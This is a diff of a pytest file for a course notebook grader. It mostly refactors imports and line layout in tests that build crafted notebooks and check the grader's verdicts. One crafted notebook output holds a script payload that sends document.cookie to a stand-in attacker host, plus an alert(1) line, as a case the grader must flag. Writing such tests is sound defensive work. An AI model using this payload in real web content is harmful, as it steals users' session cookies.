@@ -11,14 +11,14 @@ from pathlib import Path
 
 import nbformat
 import pytest
-from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
-
 from crafted_notebooks import REPO, cell_of, error_output, lab2_results, make_notebook, record_cell, rouge_scores, write
+from nbformat.v4 import new_output
+
 from genai_course import grade_cli, grading
 from genai_course.grading import grade_notebook, grade_paths
 from genai_course.notebook_reading import SYMLINK_REFUSED
 from genai_course.results import RESULTS_MIME
-from genai_course.rubric import Rubric, RubricError, find_rubric
+from genai_course.rubric import Rubric, find_rubric
 
 
 @pytest.fixture(scope="module")
@@ -55,13 +55,15 @@ def crafted_cases(folder: Path, canary: Path) -> dict[str, tuple[Path, str, str]
     add("no_results", no_results, "fail", "no recorded results")
 
     unanswered = make_notebook()
-    cell_of(unanswered, "lab2-ex1-answer").source = "def mask_padding(labels, pad_id):\n    # YOUR CODE HERE\n    raise NotImplementedError()"
+    stub = "def mask_padding(labels, pad_id):\n    # YOUR CODE HERE\n    raise NotImplementedError()"
+    cell_of(unanswered, "lab2-ex1-answer").source = stub
     cell_of(unanswered, "lab2-ex1-test").outputs = [error_output("NameError", "name 'mask_padding' is not defined")]
     add("unanswered", unanswered, "fail", "not answered")
 
     scripted = make_notebook()
     scripted.cells[1].outputs = [
-        new_output("display_data", data={"text/html": "<script>fetch('https://evil.example/'+document.cookie)</script>", "text/plain": "x"}),
+        new_output("display_data", data={"text/html": "<script>fetch('https://evil.example/'+document.cookie)</script>",
+                                         "text/plain": "x"}),
         new_output("display_data", data={"application/javascript": "alert(1)"}),
     ]
     add("html_script", scripted, "pass", "<script>")
@@ -117,7 +119,8 @@ def test_crafted_case_gets_the_right_verdict(graded, name):
     _, expected, phrase = cases[name]
     report = reports[name]
     assert report.verdict == expected, f"{name}: expected {expected}, got {report.verdict}: {report.reasons}"
-    assert phrase in " ".join(report.reasons + report.flags), f"{name}: {phrase!r} not in {report.reasons + report.flags}"
+    said = report.reasons + report.flags
+    assert phrase in " ".join(said), f"{name}: {phrase!r} not in {said}"
 
 
 def test_passing_notebook_meets_every_threshold_and_exercise(graded, rubric):
